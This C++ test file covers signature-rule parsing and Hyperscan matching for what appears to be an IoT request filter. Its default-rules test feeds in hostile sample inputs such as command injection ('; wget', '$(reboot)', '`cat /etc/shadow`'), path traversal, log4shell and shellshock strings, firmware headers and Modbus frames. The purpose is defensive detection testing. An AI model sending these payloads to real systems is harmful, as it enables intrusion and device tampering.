// Signature rules parsing, Hyperscan compilation and matching, including the
// shipped default rules file config/security/signatures.json.

#include <atomic>
#include <fstream>
#include <sstream>
#include <string>
#include <thread>

#include <gtest/gtest.h>

#include "actors/core/error.hpp"
#include "actors/security/validation/signature_matcher.hpp"
#include "actors/security/validation/signature_rules.hpp"

using namespace kagami;
using namespace kagami::security;

namespace {

std::string read_default_rules() {
  std::ifstream in{KAGAMI_SOURCE_DIR "/config/security/signatures.json",
                   std::ios::binary};
  std::ostringstream out;
  out << in.rdbuf();
  return out.str();
}

struct parse_case {
  const char* name;
  const char* text;
  const char* error_prefix; // nullptr: must parse
};

TEST(signature_rules, table) {
  const parse_case cases[] = {
    {"minimal", R"([{"id":"A","pattern":"x","severity":"low","fields":["body"]}])",
     nullptr},
    {"flags", R"([{"id":"A","pattern":"x","severity":"medium","fields":["uri","headers"],"flags":["caseless","dotall"]}])",
     nullptr},
    {"not json", "[{", "(root): not valid JSON"},
    {"not array", R"({"id":"A"})", "(root): expected an array"},
    {"rule not object", R"([1])", "/0: expected an object"},
    {"missing id", R"([{"pattern":"x","severity":"low","fields":["body"]}])",
     "/0/id: expected a string"},
    {"bad severity", R"([{"id":"A","pattern":"x","severity":"urgent","fields":["body"]}])",
     "/0/severity: expected one of"},
    {"bad field", R"([{"id":"A","pattern":"x","severity":"low","fields":["body","cookie"]}])",
     "/0/fields/1: expected one of uri, headers, body"},
    {"duplicate field", R"([{"id":"A","pattern":"x","severity":"low","fields":["body","body"]}])",
     "/0/fields/1: duplicate field"},
    {"empty fields", R"([{"id":"A","pattern":"x","severity":"low","fields":[]}])",
     "/0/fields: expected a non-empty array"},
    {"bad flag", R"([{"id":"A","pattern":"x","severity":"low","fields":["body"],"flags":["utf8"]}])",
     "/0/flags/0: expected one of"},
    {"empty pattern", R"([{"id":"A","pattern":"","severity":"low","fields":["body"]}])",
     "/0/pattern: length"},
    {"nul in pattern", R"([{"id":"A","pattern":"a\u0000b","severity":"low","fields":["body"]}])",
     "/0/pattern: contains a NUL"},
    {"unknown key", R"([{"id":"A","pattern":"x","severity":"low","fields":["body"],"action":"drop"}])",
     "/0/action: unknown key"},
    {"id with space", R"([{"id":"A B","pattern":"x","severity":"low","fields":["body"]}])",
     "/0/id: must be printable"},
    {"duplicate id", R"([{"id":"A","pattern":"x","severity":"low","fields":["body"]},{"id":"A","pattern":"y","severity":"low","fields":["body"]}])",
     "/1/id: duplicate id A"},
  };
  for (auto& c : cases) {
    SCOPED_TRACE(c.name);
    auto rules = parse_signature_rules(c.text);
    if (c.error_prefix == nullptr) {
      ASSERT_TRUE(rules) << detail_of(rules.error());
      continue;
    }
    ASSERT_FALSE(rules);
    EXPECT_EQ(code_of(rules.error()), ec::config_invalid);
    EXPECT_EQ(detail_of(rules.error()).rfind(c.error_prefix, 0), 0u)
      << detail_of(rules.error());
  }
}

TEST(signature_rules, limits) {
  signature_limits limits;
  limits.max_rules = 1;
  auto two = parse_signature_rules(
    R"([{"id":"A","pattern":"x","severity":"low","fields":["body"]},{"id":"B","pattern":"y","severity":"low","fields":["body"]}])",
    limits);
  ASSERT_FALSE(two);
  limits = {};
  limits.max_file_bytes = 8;
  EXPECT_FALSE(parse_signature_rules(R"([        ])", limits));
}

TEST(signature_matcher, scan_without_scratch_is_an_error) {
  auto rules = parse_signature_rules(
    R"([{"id":"A","pattern":"x","severity":"low","fields":["body"]}])");
  ASSERT_TRUE(rules);
  auto matcher = signature_matcher::compile(std::move(*rules));
  ASSERT_TRUE(matcher);
  signature_scratch none;
  auto hit = matcher->scan({"/", {}, "x"}, none);
  ASSERT_FALSE(hit);
  EXPECT_EQ(code_of(hit.error()), ec::internal);
}

TEST(signature_matcher, one_scratch_per_thread) {
  auto rules = parse_signature_rules(
    R"([{"id":"A","pattern":"needle\\d+","severity":"low","fields":["body"]}])");
  ASSERT_TRUE(rules);
  auto matcher = signature_matcher::compile(std::move(*rules));
  ASSERT_TRUE(matcher);
  std::atomic<int> hits{0};
  std::atomic<int> errors{0};
  auto work = [&] {
    auto scratch = matcher->make_scratch();
    if (!scratch) {
      ++errors;
      return;
    }
    for (int i = 0; i < 2000; ++i) {
      auto body = (i % 2 == 0) ? std::string{"hay needle"} + std::to_string(i)
                               : std::string{"hay needle x"};
      auto hit = matcher->scan({"/", {}, body}, *scratch);
      if (!hit)
        ++errors;
      else if (*hit)
        ++hits;
    }
  };
  std::thread a{work};
  std::thread b{work};
  a.join();
  b.join();
  EXPECT_EQ(errors.load(), 0);
  EXPECT_EQ(hits.load(), 2000); // 1000 even bodies per thread
}

TEST(signature_matcher, compile_error_names_the_rule) {
  auto rules = parse_signature_rules(
    R"([{"id":"OK-1","pattern":"abc","severity":"low","fields":["body"]},)"
    R"({"id":"BAD-2","pattern":"(unclosed","severity":"low","fields":["body"]}])");
  ASSERT_TRUE(rules) << detail_of(rules.error());
  auto matcher = signature_matcher::compile(std::move(*rules));
  ASSERT_FALSE(matcher);
  EXPECT_EQ(code_of(matcher.error()), ec::config_invalid);
  EXPECT_EQ(detail_of(matcher.error()).rfind("rule BAD-2 (/1/pattern): ", 0), 0u)
    << detail_of(matcher.error());
}

TEST(signature_matcher, field_selection_and_flags) {
  auto rules = parse_signature_rules(
    R"([{"id":"U","pattern":"evil","severity":"low","fields":["uri"]},)"
    R"({"id":"H","pattern":"^x-probe:","severity":"medium","fields":["headers"],"flags":["caseless"]},)"
    R"({"id":"B","pattern":"a.b","severity":"high","fields":["body"],"flags":["dotall"]}])");
  ASSERT_TRUE(rules);
  auto matcher = signature_matcher::compile(std::move(*rules));
  ASSERT_TRUE(matcher) << detail_of(matcher.error());
  auto scratch = matcher->make_scratch();
  ASSERT_TRUE(scratch);
  auto scan = [&](scanned_request r) {
    auto hit = matcher->scan(r, *scratch);
    EXPECT_TRUE(hit);
    return hit ? *hit : std::nullopt;
  };
  // "evil" only counts in the URI.
  auto hit = scan({"/things/evil", {}, ""});
  ASSERT_TRUE(hit);
  EXPECT_EQ(hit->rule_id, "U");
  EXPECT_EQ(hit->field, request_field::uri);
  EXPECT_FALSE(scan({"/things/x", {}, "evil"}));
  // Header rule anchored at the header name, caseless.
  hit = scan({"/", {{"Accept", "*/*"}, {"X-Probe", "1"}}, ""});
  ASSERT_TRUE(hit);
  EXPECT_EQ(hit->rule_id, "H");
  EXPECT_EQ(hit->severity, signature_severity::medium);
  EXPECT_EQ(hit->field, request_field::headers);
  EXPECT_FALSE(scan({"/", {{"Accept", "x-probe:"}}, ""}));
  // dotall lets '.' match a newline.
  hit = scan({"/", {}, "a\nb"});
  ASSERT_TRUE(hit);
  EXPECT_EQ(hit->rule_id, "B");
  EXPECT_FALSE(scan({"/", {}, "ab"}));
}

struct default_case {
  const char* name;
  std::string uri;
  std::vector<std::pair<std::string, std::string>> headers;
  std::string body;
  const char* rule; // nullptr: benign, must not match
};

TEST(signature_matcher, default_rules_file) {
  auto text = read_default_rules();
  ASSERT_FALSE(text.empty());
  auto rules = parse_signature_rules(text);
  ASSERT_TRUE(rules) << detail_of(rules.error());
  auto matcher = signature_matcher::compile(std::move(*rules));
  ASSERT_TRUE(matcher) << detail_of(matcher.error());
  auto scratch = matcher->make_scratch();
  ASSERT_TRUE(scratch);
  using namespace std::string_literals;
  const std::string prop = "/things/press-1/properties/";
  const default_case cases[] = {
    // Shell metacharacters followed by a command, and a benign look-alike.
    {"semicolon command", prop + "label", {}, R"({"label":"a; wget http://x/y"})", "KG-1001"},
    {"pipe in uri", prop + "label?v=1|sh", {}, "", "KG-1001"},
    {"semicolon reboot", prop + "label", {}, R"({"label":"x; reboot"})", "KG-1001"},
    {"query parameter named like a command", prop + "label?a=1&rm=2&sh=on", {}, "", nullptr},
    {"semicolon prose", prop + "label", {}, R"({"label":"stop; then restart"})", nullptr},
    {"command substitution", prop + "label", {}, R"j({"label":"$(reboot)"})j", "KG-1002"},
    {"single dollar", prop + "label", {}, R"j({"label":"costs $5 (approx.)"})j", nullptr},
    {"backtick command", prop + "label", {}, R"({"label":"`id`"})", "KG-1003"},
    {"backtick pipeline", prop + "label", {}, R"({"label":"`cat /etc/shadow`"})", "KG-1003"},
    {"backtick identifier", prop + "label", {}, R"({"label":"`identity`"})", nullptr},
    {"backtick prose", prop + "label", {}, R"({"label":"press `start` twice"})", nullptr},
    // Path traversal, plain and percent-encoded, and a dotted number.
    {"traversal", "/things/../../etc/passwd", {}, "", "KG-1010"},
    {"encoded traversal", "/things/%2E%2E%2Fetc", {}, "", "KG-1010"},
    {"dotted number", prop + "temp?v=42.5", {}, R"({"value":42.5})", nullptr},
    // Firmware-update payloads.
    {"uImage magic", prop + "blob", {}, "\x27\x05\x19\x56\x00\x00\x00\x01"s, "KG-1020"},
    {"uImage magic inside", prop + "blob", {}, "junk\x27\x05\x19\x56rest"s, "KG-1020"},
    {"ELF header", prop + "blob", {}, "\x7f" "ELF\x01\x01\x01\x00"s, "KG-1021"},
    {"number body", prop + "blob", {}, R"(42.5)", nullptr},
    {"ELF in prose", prop + "label", {}, "\"my ELF\"", nullptr},
    // Known exploit strings.
    {"log4shell header", prop + "temp", {{"User-Agent", "${jndi:ldap://x/a}"}}, "", "KG-1030"},
    {"log4shell caseless", prop + "label", {}, R"({"label":"${JNDI:dns://x}"})", "KG-1030"},
    {"template", prop + "label", {}, R"({"label":"${name}"})", nullptr},
    {"shellshock", prop + "temp", {{"Referer", "() { :;}; /bin/sh -c id"}}, "", "KG-1031"},
    {"parentheses prose", prop + "temp", {{"User-Agent", "curl/8.0 (x86_64) {ok}"}}, "", nullptr},
    // Modbus TCP frames tunnelled in a body: MBAP header + function code.
    {"modbus read holding", prop + "blob", {},
     "\x00\x01\x00\x00\x00\x06\x01\x03\x00\x00\x00\x0a"s, "KG-1040"},
    {"modbus write multiple", prop + "blob", {},
     "\x12\x34\x00\x00\x00\x09\x11\x10\x00\x01\x00\x01\x02\x00\x07"s, "KG-1040"},
    {"modbus content type", prop + "blob", {{"Content-Type", "application/x-modbus"}}, "", "KG-1041"},
    {"json content type", prop + "blob", {{"Content-Type", "application/json"}},
     R"({"value":3})", nullptr},
    {"short binary", prop + "blob", {}, "\x00\x01\x00\x00\x00\x00\x01\x03"s, nullptr},
  };
  for (auto& c : cases) {
    SCOPED_TRACE(c.name);
    scanned_request request{c.uri, {}, c.body};
    for (auto& [k, v] : c.headers)
      request.headers.emplace_back(k, v);
    auto hit = matcher->scan(request, *scratch);
    ASSERT_TRUE(hit) << detail_of(hit.error());
    if (c.rule == nullptr) {
      EXPECT_FALSE(*hit) << "matched " << (*hit)->rule_id;
    } else {
      ASSERT_TRUE(*hit);
      EXPECT_EQ((*hit)->rule_id, c.rule);
    }
  }
}

} // namespace
